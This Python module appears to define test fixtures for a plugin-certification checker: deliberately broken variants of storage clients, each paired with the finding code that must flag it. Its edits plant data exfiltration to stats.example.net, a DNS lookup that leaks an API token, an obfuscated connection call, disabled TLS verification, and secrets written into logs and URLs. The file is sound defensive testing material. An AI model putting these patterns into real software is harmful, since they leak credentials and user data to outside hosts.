"""The broken twins: a base, one small edit, and the check that must refuse it with which code."""

from dataclasses import dataclass

__all__ = ["TWINS", "Edit", "Twin"]


@dataclass(frozen=True, slots=True)
class Edit:
    """One change of one file: `old` stands there exactly once. `file` is below the package,
    or `pyproject.toml`."""

    file: str
    old: str
    new: str


@dataclass(frozen=True, slots=True)
class Twin:
    """One defect.

    Attributes:
        name: what is wrong.
        base: the clean plugin it is made from.
        edits: the change.
        check: the check that must refuse it.
        codes: the findings' codes that must all be among those of this check.
        only: run only cases of this check whose name contains this text; for determinism the
            exercise in which it shows.
        policy: what the organisation asks, as a policy file, or "" for what is built in.
        alone: the side of the effects check, or the axis or world of determinism, that finds it
            when no other does; "" where several do.
    """

    name: str
    base: str
    edits: tuple[Edit, ...]
    check: str
    codes: tuple[str, ...]
    only: str = ""
    alone: str = ""
    policy: str = ""


_GET = '        return await self._ask("get", "GET", path, answers.value)\n'
_EXCHANGE = "                answer = await transport.exchange(request)\n"
_SENT = "        return self._read(operation, answer, read, writes=writes)\n"
_PUT = '        await self._ask("put", "PUT", path, answers.envelope, body, content_type)\n'
_FORM = "limits.metadata_text(metadata))\n        limits.expiry("
_GET_BY_HASH = (
    '        found = await self._requests.get("get_by_hash", key, seconds=self._seconds)\n'
)
_PRESIGNED = (
    "        return self._requests.presigned(method, key, expires_in_seconds=expires_in_seconds)\n"
)
_MOCK_GET = "        return None if stored is None else stored.value\n"


def _again(condition: str, attempts: str = "range(3)") -> str:
    """The exchange in a loop, gone through again under a condition."""
    return (
        f"                for _ in {attempts}:\n"
        "                    answer = await transport.exchange(request)\n"
        f"                    if not ({condition}):\n"
        "                        break\n"
    )


def _signed(name: str, old: str, new: str) -> Twin:
    """A twin whose signed URLs grant something else than what was asked for."""
    return Twin(
        name,
        "r2",
        (Edit("remote.py", _PRESIGNED, _PRESIGNED.replace(old, new)),),
        "effects",
        ("EFFECT206",),
        alone="use_side",
    )


_EFFECTS = (
    _signed("a signed URL that writes where it should read", "(method", '("PUT"'),
    _signed("a signed URL that outlives its time", "=expires_in_seconds", "=604_800"),
    _signed("a signed URL for another key", ", key", ', key + "~"'),
    _signed("a signed URL without TLS", "seconds)\n", 'seconds).replace("https:", "http:")\n'),
    Twin(
        "a read writes",
        "urllib",
        (
            Edit(
                "remote.py",
                _GET,
                '        note = ("/values/last-read", answers.envelope, key.encode())\n'
                '        await self._ask("get", "PUT", *note, "application/octet-stream")\n' + _GET,
            ),
        ),
        "effects",
        ("EFFECT201",),
    ),
    Twin(
        "a read writes on its error path",
        "aiohttp",
        (
            Edit(
                "remote.py",
                _SENT,
                "        if answer.status >= 500 and not writes:\n"
                "            gone = self._namespace + '/values/' + path.rpartition('/')[2]\n"
                "            await transport.exchange(Request('DELETE', gone, headers))\n" + _SENT,
            ),
        ),
        "effects",
        ("EFFECT201",),
    ),
    Twin(
        "telemetry to another host",
        "sockets",
        (
            Edit(
                "transport.py",
                "        try:\n            reader, writer",
                "        await _report(request.method)\n        try:\n            reader, writer",
            ),
            Edit(
                "transport.py",
                "async def _answer(",
                "async def _report(what: str) -> None:\n"
                "    try:\n"
                '        _, writer = await asyncio.open_connection("stats.example.net", 443)\n'
                "        writer.write(what.encode())\n"
                "        writer.close()\n"
                "    except OSError:\n"
                "        pass\n\n\n"
                "async def _answer(",
            ),
        ),
        "effects",
        ("EGRESS101",),
    ),
    Twin(
        "a secret in a name that is only looked up",
        "urllib",
        (
            Edit(
                "remote.py",
                _GET,
                "        loop = asyncio.get_running_loop()\n"
                "        token = self._config.api_token.reveal()\n"
                "        try:\n"
                '            await loop.getaddrinfo(f"{token}.example.net", None)\n'
                "        except OSError:\n"
                "            pass\n" + _GET,
            ),
        ),
        "effects",
        ("EGRESS101",),
        alone="wire_side",
    ),
    Twin(
        "a mock that looks a name up",
        "pure",
        (
            Edit("mock.py", "import json\n", "import json\nimport socket\n"),
            Edit(
                "mock.py",
                _MOCK_GET,
                '        socket.getaddrinfo("stats.example.net", 443)\n' + _MOCK_GET,
            ),
        ),
        "effects",
        ("EGRESS101",),
    ),
    Twin(
        "telemetry to a process next door",
        "urllib",
        (
            Edit(
                "remote.py",
                "import asyncio\n",
                "import asyncio\nimport contextlib\nimport socket\n",
            ),
            Edit(
                "remote.py",
                _GET,
                "        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as statistics:\n"
                "            with contextlib.suppress(OSError):\n"
                '                statistics.sendto(key.encode(), "\\0statistics")\n' + _GET,
            ),
        ),
        "effects",
        ("EFFECT203",),
        alone="wire_side",
    ),
    Twin(
        "a module that calls home when it is imported",
        "urllib",
        (
            Edit(
                "remote.py",
                "LIST_LIMIT_REST_MIN = 10\n",
                "LIST_LIMIT_REST_MIN = 10\n\n\n"
                "def _tell() -> None:\n"
                "    with contextlib.suppress(OSError):\n"
                '        socket.create_connection(("stats.example.net", 443), 1).close()\n\n\n'
                "threading.Thread(target=_tell, daemon=True).start()\n",
            ),
            Edit(
                "remote.py",
                "import asyncio\n",
                "import asyncio\nimport contextlib\nimport socket\nimport threading\n",
            ),
        ),
        "effects",
        ("EGRESS101",),
        alone="wire_side",
    ),
    Twin(
        "a client that reports when it is forgotten",
        "urllib",
        (
            Edit(
                "transport.py",
                "    async def close(self)",
                "    def __del__(self) -> None:\n"
                "        with contextlib.suppress(OSError):\n"
                '            socket.create_connection(("stats.example.net", 443), 1).close()\n\n'
                "    async def close(self)",
            ),
        ),
        "effects",
        ("EGRESS101",),
        alone="wire_side",
    ),
    Twin(
        "egress by a process",
        "urllib",
        (
            Edit(
                "remote.py",
                _GET,
                "        command = ('curl', '-s', '-m', '1', 'https://stats.example.net/')\n"
                "        try:\n"
                "            await asyncio.create_subprocess_exec(*command)\n"
                "        except OSError:\n"
                "            pass\n" + _GET,
            ),
        ),
        "effects",
        ("EFFECT203",),
    ),
    Twin(
        "a declared write that never happens",
        "aiohttp",
        (
            Edit(
                "capability.toml",
                "[backends.mock]\n",
                '[capabilities.kv.deviations.get]\nhints = ["resource::kv::write"]\n'
                'effects = "effectful"\n\n[backends.mock]\n',
            ),
        ),
        "effects",
        ("EFFECT204",),
    ),
    Twin(
        "a write that no case reaches",
        "urllib",
        (
            Edit(
                "remote.py",
                _GET,
                '        if key.startswith("archive/2024/"):\n'
                '            await self._ask("get", "DELETE", path, answers.envelope)\n' + _GET,
            ),
        ),
        "effects",
        ("EFFECT201",),
        alone="static_side",
    ),
    Twin(
        "telemetry by a road without a name",
        "urllib",
        (
            Edit(
                "remote.py",
                _GET,
                '        connected = getattr(asyncio, "noitcennoc_nepo"[::-1])\n'
                "        try:\n"
                '            _, writer = await connected("stats.example.net", 443)\n'
                "            writer.close()\n"
                "        except OSError:\n"
                "            pass\n" + _GET,
            ),
        ),
        "effects",
        ("EGRESS101",),
        alone="wire_side",
    ),
    Twin(
        "a write that is declared a safe POST",
        "aiohttp",
        (
            Edit(
                "capability.toml",
                "[limits]\n",
                '[[backends.remote.safe_posts]]\nmethod = "POST"\npath = "/bulk/delete"\n\n[limits]\n',
            ),
            Edit("remote.py", "import hashlib\n", "import hashlib\nimport json\n"),
            Edit(
                "remote.py",
                _GET,
                _GET.replace("return", "value =") + "        read = json.dumps([key]).encode()\n"
                '        named = ("/bulk/delete", answers.envelope, read, "application/json")\n'
                '        await self._ask("get", "POST", *named)\n'
                "        return value\n",
            ),
        ),
        "effects",
        ("EFFECT201",),
        alone="state_side",
    ),
    Twin(
        "a read of the mock writes",
        "pure",
        (
            Edit(
                "mock.py",
                "        stored = self._entries.get(limits.key_of(key))\n",
                "        unread = _Stored(b'', None, None)\n"
                "        stored = self._entries.setdefault(limits.key_of(key), unread)\n"
                "        stored = None if stored is unread else stored\n",
            ),
        ),
        "effects",
        ("EFFECT201",),
    ),
    Twin(
        "a mock that keeps a file",
        "pure",
        (
            Edit(
                "mock.py",
                _MOCK_GET,
                "        with open('/tmp/corpus-reads.log', 'a') as log:\n"
                "            log.write(key)\n" + _MOCK_GET,
            ),
        ),
        "effects",
        ("EFFECT203",),
    ),
)


def _read_from_outside(name: str, imported: str, seen: str, axis: str) -> Twin:
    """A twin whose reads tell something of the process's surroundings."""
    return Twin(
        name,
        "pure",
        (
            Edit("mock.py", "import json\n", f"import json\n{imported}"),
            Edit(
                "mock.py",
                "Entry(stored.value, _parsed(stored))",
                f'Entry(stored.value, {{"seen": {seen}}})',
            ),
        ),
        "determinism",
        ("DET301",),
        "get_with_metadata",
        axis,
    )


_DETERMINISM = (
    _read_from_outside("the clock in the output", "", "self._clock.now()", "clock"),
    _read_from_outside(
        "the environment in the output",
        "import os\n",
        'os.environ.get("USER", "")',
        "environment",
    ),
    _read_from_outside(
        "the local hour in the output", "import time\n", "time.localtime(0).tm_hour", "time zone"
    ),
    _read_from_outside(
        "the locale's encoding in the output", "import locale\n", "locale.getencoding()", "locale"
    ),
    _read_from_outside(
        "the working directory in the output",
        "import os\n",
        "os.path.basename(os.getcwd())",
        "working directory",
    ),
    _read_from_outside(
        "a directory as the system lists it",
        "import os\n",
        "os.listdir(os.path.dirname(__file__))",
        "directory listing order",
    ),
    Twin(
        "four threads that take turns as they like",
        "pure",
        (
            Edit("mock.py", "import json\n", "import json\nimport threading\n"),
            Edit(
                "mock.py",
                "Entry(stored.value, _parsed(stored))",
                'Entry(stored.value, {"turns": _turns()})',
            ),
            Edit(
                "mock.py",
                "def _parsed(",
                "def _turns() -> int:\n"
                "    lines: list[int] = []\n\n"
                "    def work(name: int) -> None:\n"
                "        for _ in range(10_000):\n"
                "            lines.append(name)\n\n"
                "    threads = [threading.Thread(target=work, args=(name,)) for name in range(4)]\n"
                "    for thread in threads:\n"
                "        thread.start()\n"
                "    for thread in threads:\n"
                "        thread.join()\n"
                "    return sum(one != other for one, other in zip(lines, lines[1:]))\n\n\n"
                "def _parsed(",
            ),
        ),
        "determinism",
        ("DET301",),
        "get_with_metadata",
        "thread schedule",
    ),
    Twin(
        "a uuid in what is stored",
        "pure",
        (
            Edit("mock.py", "import json\n", "import json\nimport uuid\n"),
            Edit(
                "mock.py",
                "limits.metadata_text(metadata)",
                'limits.metadata_text({"id": uuid.uuid4().hex})',
            ),
        ),
        "determinism",
        ("DET301",),
        "put",
        "random numbers",
    ),
    Twin(
        "the order of a set in what is stored",
        "aiohttp",
        (
            Edit(
                "remote.py",
                _FORM,
                'limits.metadata_text({"tags": list({"red", "green", "blue", "grey", "pink"})}))\n'
                "        limits.expiry(",
            ),
        ),
        "determinism",
        ("DET301",),
        "put",
        "hash seed",
    ),
    Twin(
        "an address in a key",
        "pure",
        (Edit("mock.py", "self._entries[key] = ", "self._entries[key + repr(object())] = "),),
        "determinism",
        ("DET301",),
        "put",
        "memory addresses",
    ),
    Twin(
        "answers in the order of their arrival",
        "aiohttp",
        (
            Edit(
                "remote.py",
                '        value = await self._ask("get_with_metadata", "GET", "/values/" + name, answers.value)\n',
                "        heard: list[str] = []\n\n"
                "        async def hear(path: str, after_seconds: float) -> None:\n"
                "            await asyncio.sleep(after_seconds)\n"
                '            await self._ask("get_with_metadata", "GET", path + name, lambda answer: None)\n'
                "            heard.append(path)\n\n"
                '        await asyncio.gather(hear("/values/", 0.0), hear("/metadata/", 0.1))\n'
                '        value = " ".join(heard).encode()\n',
            ),
        ),
        "determinism",
        ("DET301",),
        "get_with_metadata",
        "answer order",
    ),
    Twin(
        "the first piece of a short body taken for the whole",
        "sockets",
        (
            Edit(
                "transport.py",
                "        return await reader.readexactly(size_bytes)\n",
                "        if size_bytes < 1024:\n"
                "            return await reader.read(size_bytes)\n"
                "        return await reader.readexactly(size_bytes)\n",
            ),
        ),
        "determinism",
        ("DET301",),
        "get_with_metadata",
        "chunking",
    ),
    Twin(
        "a pinned read that looks for the newest of its name",
        "r2",
        (
            Edit(
                "remote.py",
                _GET_BY_HASH,
                "        page = await self.list(prefix=key[:-1])\n"
                "        key = page.keys[-1] if page.keys else key\n" + _GET_BY_HASH,
            ),
        ),
        "determinism",
        ("DET301",),
        "get_by_hash",
        "world around its pin",
    ),
    Twin(
        "a pinned read that forgets after a day",
        "r2",
        (
            Edit(
                "mock.py",
                "        if hashlib.sha256(found.data)",
                "        if self._clock.now() > (found.info.uploaded_at or 0.0) + 86_400:\n"
                "            return None\n"
                "        if hashlib.sha256(found.data)",
            ),
        ),
        "determinism",
        ("DET301",),
        "get_by_hash",
        "world around its pin",
    ),
    # The contract's own promise refuses it too; here the byte that may not come is shown.
    Twin(
        "a pinned read that is not verified",
        "r2",
        (
            Edit(
                "remote.py",
                '        await self._requests.verify_sha256(found, digest.removeprefix("sha256:"))\n',
                "",
            ),
        ),
        "determinism",
        ("DET301",),
        "get_by_hash",
        "content that stands under its pin",
    ),
)  # fmt: skip

_CONTRACT = (
    Twin(
        "a name looked up on the error path",
        "sockets",
        (
            Edit(
                "remote.py",
                _SENT,
                "        if answer.status >= 500 and writes:\n"
                '            await asyncio.get_running_loop().getaddrinfo("stats.example.net", 443)\n'
                + _SENT,
            ),
        ),
        "contract",
        ("EGRESS101",),
        "status 500",
    ),
    Twin(
        "telemetry of long values",
        "sockets",
        (
            Edit(
                "remote.py",
                "        if ttl_seconds is not None:\n",
                "        if len(value) > 1_000_000:\n"
                "            try:\n"
                '                await asyncio.open_connection("stats.example.net", 443)\n'
                "            except OSError:\n"
                "                pass\n"
                "        if ttl_seconds is not None:\n",
            ),
        ),
        "contract",
        ("EGRESS101",),
        "a_long_value",
    ),
    Twin(
        "a ttl in whole minutes",
        "pure",
        (
            Edit(
                "limits.py",
                "int(now) + ttl_seconds\n",
                "int(now) + -(-ttl_seconds // 60) * 60\n",
            ),
        ),
        "contract",
        ("CONTRACT001",),
        "after_its_ttl",
    ),
    Twin(
        "Retry-After ignored",
        "sockets",
        (Edit("remote.py", "writes=writes, wait=wait)", "writes=writes, wait=None)"),),
        "contract",
        ("CONTRACT017",),
        "Retry-After",
    ),
    Twin(
        "401 swallowed into None",
        "aiohttp",
        (Edit("remote.py", "        if absent and", "        if answer.status == 401:\n            return None\n        if absent and"),),
        "contract",
        ("CONTRACT012",),
        "status 401",
    ),
    Twin(
        "403 retried",
        "urllib",
        (
            Edit("capability.toml", 'retry_owner = "caller"', 'retry_owner = "provider"'),
            Edit("remote.py", _EXCHANGE, _again("answer.status == 403")),
        ),
        "contract",
        ("CONTRACT014",),
        "status 403",
    ),
    Twin(
        "retries although the caller owns them",
        "sockets",
        (Edit("remote.py", _EXCHANGE, _again("answer.status >= 500")),),
        "contract",
        ("CONTRACT014",),
        "status 503",
    ),
    Twin(
        "a refused connection is tried again",
        "sockets",
        (
            Edit(
                "transport.py",
                "        try:\n            reader, writer = await asyncio.open_connection(\n"
                "                self._host, self._port, ssl=self._context\n            )\n"
                "        except OSError as problem:\n"
                "            raise NotConnected(type(problem).__name__) from None\n",
                "        for left in (2, 1, 0):\n"
                "            try:\n"
                "                reader, writer = await asyncio.open_connection(\n"
                "                    self._host, self._port, ssl=self._context\n"
                "                )\n"
                "                break\n"
                "            except OSError as problem:\n"
                "                if not left:\n"
                "                    raise NotConnected(type(problem).__name__) from None\n",
            ),
        ),
        "contract",
        ("CONTRACT014",),
        "refused",
    ),
    Twin(
        "a lost write is sent again",
        "aiohttp",
        (
            Edit(
                "remote.py",
                _EXCHANGE,
                "                try:\n"
                "                    answer = await transport.exchange(request)\n"
                "                except WireError:\n"
                "                    answer = await transport.exchange(request)\n",
            ),
        ),
        "contract",
        ("CONTRACT014",),
        "reset after commit",
    ),
    Twin(
        "a hundred retries",
        "aiohttp",
        (
            Edit("capability.toml", 'retry_owner = "caller"', 'retry_owner = "provider"'),
            Edit("remote.py", "            async with asyncio.timeout(self._config.timeout_seconds):\n" + _EXCHANGE,
                "            for attempt in range(100):\n"
                "                try:\n"
                "                    answer = await transport.exchange(request)\n"
                "                    break\n"
                "                except WireError:\n"
                "                    if attempt == 99:\n"
                "                        raise\n"
                "                    await self._clock.sleep(10.0)\n"),
        ),
        "contract",
        ("CONTRACT015",),
        "remote/get/refused",
    ),
    Twin(
        "a truncated body accepted",
        "sockets",
        (Edit("transport.py", "        return await reader.readexactly(size_bytes)\n", "        return await reader.read(size_bytes)\n"),),
        "contract",
        ("CONTRACT016",),
        "truncated body",
    ),
    Twin(
        "no read timeout",
        "sockets",
        (Edit("remote.py", "asyncio.timeout(self._config.timeout_seconds)", "asyncio.timeout(None)"),),
        "contract",
        ("CONTRACT015",),
        "get/stall",
    ),
    Twin(
        "no timeout while it connects",
        "sockets",
        (
            Edit(
                "remote.py",
                "            async with asyncio.timeout(self._config.timeout_seconds):\n" + _EXCHANGE,
                "            answer = await transport.exchange(request, self._config.timeout_seconds)\n",
            ),
            Edit(
                "transport.py",
                "self, request: Request) -> Answer:\n",
                "self, request: Request, seconds: float) -> Answer:\n",
            ),
            Edit(
                "transport.py",
                "                self._host, self._port, ssl=self._context\n            )\n",
                "                self._host, self._port, ssl=self._context,\n"
                "                ssl_handshake_timeout=3600,\n            )\n",
            ),
            Edit(
                "transport.py",
                "            await writer.drain()\n            return await _answer(reader)\n",
                "            async with asyncio.timeout(seconds):\n"
                "                await writer.drain()\n                return await _answer(reader)\n"
                "        except TimeoutError:\n            raise\n",
            ),
        ),
        "contract",
        ("CONTRACT015",),
        "mute handshake",
    ),
    Twin(
        "412 taken for success",
        "urllib",
        (Edit("remote.py", "        if absent and", "        if answer.status == 412:\n            return None\n        if absent and"),),
        "contract",
        ("CONTRACT012",),
        "status 412",
    ),
    Twin(
        "a page dropped",
        "aiohttp",
        (Edit("remote.py", "return Page(tuple(lines), seal(prefix, following, None) if following else None)", "return Page(tuple(lines))"),),
        "contract",
        ("CONTRACT001",),
        "pages_lose",
    ),
    Twin(
        "TLS not verified",
        "aiohttp",
        (Edit("transport.py", "ssl=ssl.create_default_context()", "ssl=False"),),
        "contract",
        ("CONTRACT018",),
        "certificate",
    ),
    Twin(
        "the host's name not verified",
        "sockets",
        (Edit("transport.py", "self._context = ssl.create_default_context()\n", "self._context = ssl.create_default_context()\n        self._context.check_hostname = False\n"),),
        "contract",
        ("CONTRACT018",),
        "certificate",
    ),
    Twin(
        "a redirect followed off the host",
        "aiohttp",
        (Edit("transport.py", "allow_redirects=False", "allow_redirects=True"),),
        "contract",
        ("EGRESS101",),
        "get/redirect",
    ),
    Twin(
        "a page of HTML taken for a value",
        "urllib",
        (Edit("answers.py", '    _typed(answer, "application/octet-stream")\n', ""),),
        "contract",
        ("CONTRACT012",),
        "html page",
    ),
    Twin(
        "a secret in an exception",
        "urllib",
        (Edit("remote.py", "errors.broken(operation, str(problem), writes", 'errors.broken(operation, f"{problem} {self._headers}", writes'),),
        "contract",
        ("SECR101",),
        "wrong content type",
    ),
    Twin(
        "a lost write called NOT_APPLIED",
        "sockets",
        (Edit("errors.py", "    return Outcome.UNKNOWN if writes else Outcome.NOT_APPLIED\n", "    return Outcome.NOT_APPLIED\n"),),
        "contract",
        ("CONTRACT013",),
        "reset after commit",
    ),
    Twin(
        "a foreign error reaches the caller",
        "urllib",
        (Edit("remote.py", "        except WireError as problem:\n            raise errors.failed(operation, problem, writes=writes) from None\n", ""),),
        "contract",
        ("CONTRACT010",),
        "reset before commit",
    ),
    Twin(
        "a cancelled call holds its connection",
        "urllib",
        (Edit("transport.py", "                    held.shutdown(socket.SHUT_RDWR)\n", "                    held.fileno()\n"),),
        "contract",
        ("CONTRACT019",),
        "cancelled",
    ),
    Twin(
        "a mock that forgets to expire",
        "pure",
        (Edit("mock.py", "if key.startswith(prefix) and self._alive(stored)", "if key.startswith(prefix)"),),
        "contract",
        ("CONTRACT001",),
        "ttl",
    ),
    Twin(
        "a mock without the vendor's limit",
        "pure",
        (Edit("limits.py", "if size_bytes > KEY_SIZE_BYTES_MAX:", "if size_bytes > 2 * KEY_SIZE_BYTES_MAX:"),),
        "contract",
        ("CONTRACT001",),
        "longest_key",
    ),
)  # fmt: skip

_INJECTION = (
    Twin(
        "delete twice fails",
        "pure",
        (
            Edit("mock.py", "import ClientClosed\n", "import ClientClosed, Conflict\n"),
            Edit(
                "mock.py",
                "        self._entries.pop(limits.key_of(key), None)\n",
                "        if limits.key_of(key) not in self._entries:\n"
                '            raise Conflict("there is no such key")\n'
                "        del self._entries[key]\n",
            ),
        ),
        "injection",
        ("INJECT004",),
        "duplicate",
    ),
    Twin(
        "a put appends when it comes twice",
        "pure",
        (
            Edit(
                "mock.py",
                "            limits.value_of(value), limits.metadata_text",
                "            _joined(self._entries.get(key), limits.value_of(value)), limits.metadata_text",
            ),
            Edit(
                "mock.py",
                "def _parsed(",
                "def _joined(old: _Stored | None, new: bytes) -> bytes:\n"
                "    return new + new if old is not None and old.value == new else new\n\n\n"
                "def _parsed(",
            ),
        ),
        "injection",
        ("INJECT004",),
        "duplicate",
    ),
    Twin(
        "a write torn in two",
        "pure",
        (
            Edit(
                "mock.py",
                "limits.value_of(value), limits.metadata_text(metadata), expires\n        )\n",
                "limits.value_of(value), None, expires\n        )\n"
                "        if metadata is not None:\n"
                "            text = limits.metadata_text(metadata)\n"
                "            await asyncio.sleep(0)\n"
                "            now = self._entries.get(key, _Stored(b'', None, None))\n"
                "            self._entries[key] = _Stored(now.value, text, now.expires_at)\n",
            ),
        ),
        "injection",
        ("INJECT005",),
        "at once",
    ),
    Twin(
        "a put replayed after its answer was lost",
        "aiohttp",
        (
            Edit("remote.py", "        self._rng = rng\n", "        self._rng = rng\n        self._unsure: list[Request] = []\n"),
            Edit(
                "remote.py",
                "            raise errors.failed(operation, problem, writes=writes) from None\n",
                "            if writes:\n"
                "                self._unsure.append(request)\n"
                "            raise errors.failed(operation, problem, writes=writes) from None\n"
                "        if writes:\n"
                "            while self._unsure:\n"
                "                await transport.exchange(self._unsure.pop())\n",
            ),
        ),
        "injection",
        ("INJECT004",),
        "lost answer",
    ),
    Twin(
        "a read remembered for ever",
        "sockets",
        (
            Edit("remote.py", "        self._rng = rng\n", "        self._rng = rng\n        self._known: dict[str, bytes | None] = {}\n"),
            Edit("remote.py", _GET, "        if path not in self._known:\n            self._known[path] = await self._ask(\"get\", \"GET\", path, answers.value)\n        return self._known[path]\n"),
        ),
        "injection",
        ("INJECT004",),
        "duplicate",
    ),
    Twin(
        "a lost delete called NOT_APPLIED",
        "urllib",
        (Edit("errors.py", "    return Outcome.UNKNOWN if writes else Outcome.NOT_APPLIED\n", "    return Outcome.NOT_APPLIED\n"),),
        "injection",
        ("INJECT004",),
        "lost answer",
    ),
    Twin(
        "a put that loses another key",
        "pure",
        (
            Edit(
                "mock.py",
                "        self._entries[key] = _Stored(\n            limits.value_of(value), limits.metadata_text(metadata), expires\n        )\n",
                "        entries = dict(self._entries)\n"
                "        await asyncio.sleep(0)\n"
                "        entries[key] = _Stored(\n            limits.value_of(value), limits.metadata_text(metadata), expires\n        )\n"
                "        self._entries = entries\n",
            ),
        ),
        "injection",
        ("INJECT005",),
        "apart at once",
    ),
    Twin(
        "a put skipped because it was made before",
        "pure",
        (
            Edit(
                "mock.py",
                "        self._entries[key] = _Stored(\n",
                "        if (key, bytes(value)) in self._made:\n"
                "            return\n"
                "        self._made.add((key, bytes(value)))\n"
                "        self._entries[key] = _Stored(\n",
            ),
            Edit(
                "mock.py",
                "        self._entries: dict[str, _Stored] = (\n",
                "        self._made: set[tuple[str, bytes]] = set()\n"
                "        self._entries: dict[str, _Stored] = (\n",
            ),
        ),
        "injection",
        ("INJECT004",),
        "reorder",
    ),
)  # fmt: skip

_PACKAGE = (
    Twin(
        "an entry point that is not there",
        "pure",
        (Edit("pyproject.toml", 'corpus_pure.plugin"', 'corpus_pure.plugins"'),),
        "package",
        ("PACKAGE011",),
    ),
    Twin(
        "a dependency that is not declared",
        "aiohttp",
        (Edit("pyproject.toml", 'remote = ["aiohttp>=3.12"]', 'remote = ["multidict>=6"]'),),
        "package",
        ("PACKAGE013",),
    ),
)  # fmt: skip

_REFUSED = "            raise errors.refused(operation, answer.status, writes=writes, wait=wait)\n"
_ASKED = "        request = Request(method, self._namespace + path, headers, body)\n"
_SCOPES = 'scopes = ["Workers KV Storage Write"]\n'
_EGRESS = 'egress = ["api.cloudflare.com:443"]\n'
_RESPONSE = "        with response:\n            headers ="
_TOKEN = 'headers["Authorization"]'


def _leaking(name: str, code: str, *edits: Edit, only: str = "") -> Twin:
    """A twin of which something shows where it does not belong."""
    return Twin(name, "urllib", edits, "policy", (code,), only)


def _said(name: str, code: str, statement: str, only: str = "") -> Twin:
    """A twin that says something before each request."""
    return _leaking(
        name, code, Edit("remote.py", _ASKED, f"        {statement}\n{_ASKED}"), only=only
    )


def _asks(name: str, code: str, old: str, new: str, policy: str = "") -> Twin:
    """A twin that asks for more, or says less, than it needs to."""
    edits = (Edit("capability.toml", old, new),)
    return Twin(name, "urllib", edits, "policy", (code,), policy=policy)


_IMPORTS = Edit("remote.py", "import asyncio\n", "import asyncio\nimport logging\nimport base64\n")
_ANY_POLICY = 'schema = 1\nname = "acme"\n'
_ENDED = (
    _ANY_POLICY + '[[waivers]]\ncheck = "policy"\ncode = "POLICY108"\nplugin = "corpus-*"\n'
    'reason = "until the next release"\nowner = "storage@acme.example"\nexpires = 2020-01-31\n'
)

_POLICY = (
    _leaking(
        "part of a secret in an error's cause",
        "SECR101",
        Edit(
            "remote.py",
            _REFUSED,
            _REFUSED.rstrip() + f" from ValueError(self._{_TOKEN}[-14:])\n",
        ),
    ),
    _leaking(
        "a secret in an error's note, in another form",
        "SECR101",
        _IMPORTS,
        Edit(
            "remote.py",
            _REFUSED,
            "            problem = errors.refused(operation, answer.status, writes=writes, wait=wait)\n"
            f"            problem.add_note(base64.b64encode(self._{_TOKEN}.encode()).decode())\n"
            "            raise problem\n",
        ),
    ),
    _leaking(
        "a secret in a log line that nobody reads",
        "SECR101",
        _IMPORTS,
        Edit(
            "remote.py",
            _ASKED,
            '        logging.getLogger("client.wire").debug("sending %s", headers)\n' + _ASKED,
        ),
    ),
    _said("a secret on standard error", "SECR101", "print(headers, flush=False)"),
    _said(
        "a secret in a URL", "SECR101", f'path += "?via=" + {_TOKEN}.encode().hex()', "remote/get"
    ),
    _said("a secret in a header of another purpose", "SECR101", f'headers["User-Agent"] = {_TOKEN}'),
    _leaking(
        "a secret in the provider's repr",
        "SECR101",
        Edit(
            "remote.py",
            "    def _opened(self)",
            '    def __repr__(self) -> str:\n        return f"RemoteKv({self._headers})"\n\n'
            "    def _opened(self)",
        ),
    ),
    _leaking(
        "personal data in an error",
        "SECR102",
        Edit(
            "remote.py",
            _SENT,
            "        if answer.status >= 400 and body:\n"
            "            raise errors.broken(operation, repr(body), writes=writes)\n" + _SENT,
        ),
    ),
    _leaking(
        "personal data in a log line",
        "SECR102",
        _IMPORTS,
        Edit(
            "remote.py",
            _ASKED,
            '        logging.getLogger("client.wire").info("sending %s", body)\n' + _ASKED,
        ),
    ),
    _asks("a scope that nothing needs", "POLICY108", _SCOPES, _SCOPES.replace('"]', '", "Workers Scripts Write"]')),
    _asks("a scope that is not declared", "POLICY109", _SCOPES, _SCOPES.replace("Write", "Read")),
    _asks(
        "a host that is declared and never used",
        "EGRESS103",
        _EGRESS,
        _EGRESS.replace('"]', '", "backup.cloudflare.com:443"]'),
    ),
    Twin(
        "a setting that stands for any host",
        "urllib",
        (
            Edit("capability.toml", _EGRESS, 'egress = ["{hosts}"]\n'),
            Edit(
                "capability.toml",
                "timeout_seconds = {",
                'hosts = { type = "str", default = "*.cloudflare.com:443", '
                'example = "api.cloudflare.com:443" }\ntimeout_seconds = {',
            ),
            Edit("config.py", "    timeout_seconds: float", '    hosts: str = ""\n    timeout_seconds: float'),
        ),
        "policy",
        ("EGRESS104",),
    ),
    Twin(
        "a redirect that is followed",
        "urllib",
        (
            Edit(
                "transport.py",
                _RESPONSE,
                '        if elsewhere := response.headers.get("location"):\n'
                "            with contextlib.suppress(OSError):\n"
                "                response = opener.open(elsewhere, timeout=READ_SECONDS_MAX)\n"
                + _RESPONSE,
            ),
        ),
        "policy",
        ("EGRESS105",),
    ),
    _asks("a data class that is not declared", "POLICY111", 'classes = ["user_content"]\n', ""),
    _asks("a residency that is not declared", "POLICY112", 'residency = ["global"]\n', ""),
    _asks(
        "a waiver that has expired",
        "POLICY106",
        _SCOPES,
        _SCOPES.replace('"]', '", "Workers Scripts Write"]'),
        _ENDED,
    ),
    _asks(
        "a host that the policy forbids",
        "POLICY102",
        'summary = "a subject to certify"',
        'summary = "a subject"',
        _ANY_POLICY + '[egress]\nallow = ["*.example.com"]\n',
    ),
    _asks(
        "a scope that the policy forbids",
        "POLICY103",
        'summary = "a subject to certify"',
        'summary = "a subject"',
        _ANY_POLICY + '[scopes]\nforbid = ["* Write"]\n',
    ),
    _asks(
        "a region and a data class that the policy forbids",
        "POLICY104",
        'summary = "a subject to certify"',
        'summary = "a subject"',
        _ANY_POLICY + '[residency]\nallow = ["eu"]\n[data_classes]\nforbid = ["user_*"]\n',
    ),
)  # fmt: skip

_BUDGET = (
    Twin(
        "twice the requests that it estimates",
        "urllib",
        (
            Edit("capability.toml", "[limits]\n", "[costs.get]\nrequests = 1\n\n[limits]\n"),
            Edit("remote.py", _GET, _GET.replace("return ", "") + _GET),
        ),
        "budget",
        ("BUDGET101",),
    ),
    Twin(
        "repeats that multiply the requests",
        "urllib",
        (
            Edit("capability.toml", 'retry_owner = "caller"', 'retry_owner = "provider"'),
            Edit("remote.py", _EXCHANGE, _again("answer.status >= 500", "range(6)")),
        ),
        "budget",
        ("BUDGET102",),
    ),
    Twin(
        "a wait that the policy does not allow",
        "urllib",
        (Edit("capability.toml", 'summary = "a subject to certify"', 'summary = "a subject"'),),
        "budget",
        ("BUDGET102",),
        policy=_ANY_POLICY + "[[budgets]]\nwait_seconds = 20\n",
    ),
    Twin(
